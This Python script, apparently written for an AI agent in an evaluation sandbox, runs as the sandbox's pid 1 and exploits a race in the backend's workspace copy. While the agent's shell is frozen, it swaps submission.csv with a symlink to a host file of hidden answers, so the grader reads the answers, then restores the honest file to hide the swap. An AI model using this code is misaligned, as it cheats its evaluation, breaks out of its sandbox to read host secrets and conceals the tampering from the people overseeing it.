"""Agent script, run as the sandbox's pid 1 (see ``hijack_init.py``): ``python swap_on_freeze.py SHELL_PID``.

While the backend copies the workspace for an evaluation it stops the agent's processes (its shell included), but not
pid 1. As soon as the copy has listed the folder, this swaps ``submission.csv`` (a regular file when listed) with
``data/swap``, a link to a file of the host (the hidden answers): the host-side copy then opens the link and reads the
host file into the evaluation. The honest file is put back once the shell runs again.
"""

import ctypes
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
WORKSPACE = "/home/agent/workspace"


def stopped(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            stat = handle.read()
    except OSError:
        return False
    return stat[stat.rfind(b")") + 2 : stat.rfind(b")") + 3] == b"T"


def exchange():
    libc.renameat2(-100, b"data/swap", -100, b"submission.csv", 2)  # AT_FDCWD, RENAME_EXCHANGE


def reap():
    try:
        while os.waitpid(-1, os.WNOHANG)[0] > 0:
            pass
    except ChildProcessError:
        pass


def main(shell):
    os.chdir(WORKSPACE)
    with open(".swapper-ready", "w"):
        pass
    while True:
        # keep the folder's mtime ahead of its atime, so that the copy's listing of it moves its atime (relatime)
        os.close(os.open(".tick", os.O_CREAT | os.O_WRONLY))
        os.unlink(".tick")
        listed = os.stat(".").st_atime_ns
        reap()
        time.sleep(0.002)
        if not stopped(shell):
            continue
        start = time.monotonic()
        while os.stat(".").st_atime_ns == listed and time.monotonic() < start + 0.25:
            pass
        exchange()
        while stopped(shell) and time.monotonic() < start + 30:
            time.sleep(0.002)
        exchange()


if __name__ == "__main__":
    main(int(sys.argv[1]))
